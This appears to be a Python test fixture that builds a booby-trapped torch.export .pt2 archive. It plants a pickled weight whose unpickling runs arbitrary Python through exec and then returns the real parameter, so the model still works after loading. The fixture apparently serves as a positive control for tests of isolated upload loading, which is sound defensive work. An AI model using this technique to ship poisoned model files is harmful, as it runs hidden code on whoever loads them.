"""A hostile torch.export (.pt2) archive: loading it runs Python code, yet it still works as a model.

`torch.export.load` is documented to use pickle ("Never load data from an untrusted source"). In the
torch 2.13 pt2 archive reader (torch/export/pt2_archive/_package.py, `_load_state_dict`), every weight
whose entry in `data/weights/model_weights_config.json` says `"use_pickle": true` is read with
`torch.load(io.BytesIO(weight_bytes), weights_only=False)`, i.e. a full unpickle of the member
`data/weights/<path_name>`. torch.export.save itself writes such members for tensor subclasses.

`pickled_pt2` exports a benign module, then rewrites its archive so that one weight is stored that
way, as a torch.save file whose pickle calls `exec(payload, {})` before handing back the real
parameter. The program therefore loads, and gives the benign module's outputs, after the payload
ran: a faithful fixture for "uploading a .pt2 runs the uploader's code" (the positive control for
tests showing that the service loads uploads where such code can do no harm).

Only builtins and the standard library are referenced by the pickle, so it runs in any Python that
has torch, without this test package on its path.
"""

from __future__ import annotations

import io
import json
import operator
from pathlib import Path

import torch
from torch.export.pt2_archive._package import PT2ArchiveReader, PT2ArchiveWriter
from torch.export.pt2_archive.constants import WEIGHTS_CONFIG_FILENAME_FORMAT, WEIGHTS_DIR

# Members that torch's PyTorchFileWriter adds itself when the archive is closed.
_WRITER_RECORDS = {".data/version", ".data/serialization_id", "byteorder"}


class _Exec:
    """Unpickles as `exec(source, {})` (returns None), in a fresh namespace."""

    def __init__(self, source: str):
        self.source = source

    def __reduce__(self):
        return (exec, (self.source, {}))


class _Planted:
    """Unpickles as `(exec(source, {}), value)[1]`: the payload runs, the real value comes back."""

    def __init__(self, source: str, value):
        self.source = source
        self.value = value

    def __reduce__(self):
        return (operator.getitem, ((_Exec(self.source), self.value), 1))


def default_module() -> torch.nn.Module:
    """The default victim: a Linear(4, 3) classifier with fixed weights, in eval mode."""
    with torch.random.fork_rng(devices=[]):
        torch.manual_seed(0)
        return torch.nn.Linear(4, 3).eval()


def _export(module: torch.nn.Module, example: torch.Tensor) -> torch.export.ExportedProgram:
    try:  # dynamic batch size, as a real teacher would be exported
        batch = torch.export.Dim("batch")
        return torch.export.export(module, (example,), dynamic_shapes=({0: batch},))
    except Exception:  # a module that specialises on its batch size: export it static
        return torch.export.export(module, (example,))


def pickled_pt2(
    path: Path,
    payload: str,
    module: torch.nn.Module | None = None,
    example: torch.Tensor | None = None,
) -> Path:
    """Write a .pt2 at `path` whose `torch.export.load` executes the Python source `payload`.

    The module (default `default_module()`, input float32 [batch, 4]; `example` defaults to
    zeros(2, 4)) is exported with torch.export and saved with torch.export.save; the archive is then
    rewritten with torch's own zip writer (PyTorchFileWriter, which aligns members as its reader
    expects) with the same members in the same order, except that the first weight in the weights
    config becomes a pickled torch.save file (`"use_pickle": true`) that runs `payload` and then
    returns the original parameter. The loaded program computes what the benign export computes.
    """
    path = Path(path)
    module = default_module() if module is None else module
    example = torch.zeros(2, 4) if example is None else example
    program = _export(module, example)

    benign = io.BytesIO()
    torch.export.save(program, benign)
    benign.seek(0)
    with PT2ArchiveReader(benign) as reader:
        names = reader.get_file_names()
        records = {name: reader.read_bytes(name) for name in names if name not in _WRITER_RECORDS}

    config_name = WEIGHTS_CONFIG_FILENAME_FORMAT.format("model")
    config = json.loads(records[config_name])
    if not config["config"]:
        raise ValueError("the module has no weights to plant the payload in")
    fqn, meta = next(iter(config["config"].items()))
    shared = any(m["path_name"] == meta["path_name"] for f, m in config["config"].items() if f != fqn)
    if shared:  # another weight views the same file: leave it, add a member of our own
        taken = {m["path_name"] for m in config["config"].values()}
        meta["path_name"] = next(f"weight_{i}" for i in range(len(taken) + 1) if f"weight_{i}" not in taken)
    member = f"{WEIGHTS_DIR}{meta['path_name']}"
    meta["use_pickle"] = True

    pickled = io.BytesIO()
    torch.save(_Planted(payload, program.state_dict[fqn]), pickled)
    records[member] = pickled.getvalue()
    records[config_name] = json.dumps(config).encode()

    order = [name for name in names if name in records]
    if member not in order:
        order.insert(order.index(config_name), member)
    path.parent.mkdir(parents=True, exist_ok=True)
    with PT2ArchiveWriter(str(path)) as writer:
        for name in order:
            writer.write_bytes(name, records[name])
    return path
